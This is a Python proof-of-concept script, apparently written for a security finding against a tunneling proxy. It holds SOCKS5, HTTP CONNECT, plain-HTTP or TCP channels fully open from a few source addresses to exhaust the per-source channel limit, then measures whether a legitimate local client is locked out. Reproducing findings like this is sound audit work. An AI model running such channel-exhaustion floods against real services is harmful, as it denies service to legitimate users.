"""Finding 1: channels held fully open (no EOF either way) to a silent target, from K source addresses.
The per-source cap (default 512 = half of 1024) lets two addresses take every channel; no timeout applies
to a channel that is not half-closed. Legitimate client on 127.0.0.9.

Usage: timeout 180 nice -n 19 python3 two_sources.py KIND N SRC1 [SRC2 ...]
  KIND: socks | http (CONNECT) | plain (HTTP plain proxy GET, head only, no FIN) | tcp (tcp-listen)
  env A_ARGS: extra args for side A (e.g. "--half-close-timeout-ms 2000"); HOLD: s to hold before the last check"""
import sys, os, time, collections
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from t9 import *

KIND, N, SRCS = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
A_ARGS = os.environ.get("A_ARGS", "").split(); HOLD = float(os.environ.get("HOLD", "5"))
silent, echo = Target("silent"), Target("echo")
lis = {"socks": ("socks5",), "http": ("http",), "plain": ("http",), "tcp": ("tcp",)}[KIND]
T = Tunnel(a_args=A_ARGS, listeners=("socks5",) + tuple(l for l in lis if l != "socks5") if KIND != "tcp" else ("socks5", "tcp"),
           tcp_target=silent.port, a_host=os.environ.get("LHOST", "127.0.0.1"))
LH = os.environ.get("LHOST", "127.0.0.1")
SP = T.ports["socks5"]


def legit(n=20):
    c = collections.Counter()
    for _ in range(n):
        try:
            s, why = socks(os.environ.get("LEGIT", "127.0.0.9"), SP, echo.port, host=LH)
            if s:
                why = "ok" if echo_ok(s) else "no echo"; s.close()
        except OSError as e:
            why = type(e).__name__
        c[why] += 1; time.sleep(0.02)
    return dict(c)


def attack_one(src):
    if KIND == "socks":
        return socks(src, SP, silent.port, host=LH)
    if KIND == "http":
        return http_connect(src, T.ports["http"], silent.port, host=LH)
    if KIND == "plain":
        s, _ = http_plain(src, T.ports["http"], silent.port, host=LH)
        return s, "sent"
    s, _ = tcpl(src, T.ports["tcp"], host=LH)
    return s, "ok"


print(f"# KIND={KIND} N={N} per source, sources={SRCS}, A_ARGS={A_ARGS}", flush=True)
print("baseline legit (127.0.0.9 -> echo via SOCKS5):", legit(), flush=True)
held = []
for src in SRCS:
    c = collections.Counter(); t0 = time.time()
    for _ in range(N):
        try:
            s, why = attack_one(src)
            if s: held.append(s)
        except OSError as e:
            why = type(e).__name__
        c[why] += 1
    print(f"attacker {src}: {dict(c)} in {time.time()-t0:.1f} s; target accepted {silent.accepted}", flush=True)
time.sleep(1.5)
if KIND in ("plain", "tcp"):
    print(f"  sockets still open after 1.5 s: {sum(alive(s) for s in held)} of {len(held)}; target accepted {silent.accepted}", flush=True)
print("legit while held:", legit(), flush=True)
time.sleep(HOLD)
print(f"legit {HOLD:.0f} s later (attacker idle, sockets open, no FIN):", legit(),
      f"attacker sockets open: {sum(alive(s) for s in held)} of {len(held)}", flush=True)
print("A:", status(T.A.pid), "B:", status(T.B.pid))
print("A log tail:", T.log("A", 4)[-600:])
for s in held: s.close()
T.close()
